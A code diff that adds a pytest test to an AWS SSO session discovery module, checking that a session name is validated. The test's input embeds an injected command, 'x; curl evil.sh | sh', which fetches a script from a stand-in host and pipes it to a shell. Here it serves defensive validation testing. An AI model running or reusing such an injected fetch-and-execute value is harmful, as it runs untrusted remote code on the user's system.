@@ -25,6 +25,12 @@ def test_the_session_is_the_only_one_of_the_config_or_the_one_named():
     assert discovery.session_region("recro", None, lambda: config, "/c") == ("recro", "eu-west-1")
 
 
+def test_the_only_session_of_the_config_must_have_a_valid_name():
+    config = AwsConfig('[sso-session "x; curl evil.sh | sh"]\nsso_start_url = https://a.awsapps.com/start\n')
+    with pytest.raises(ParameterError, match=r"^sso_session: 'x; curl evil.sh \| sh' is not a name"):
+        discovery.session_region(None, None, lambda: config, "/c")
+
+
 def test_with_the_region_given_the_config_is_not_read():
     def unread():
         raise AssertionError("read the config")
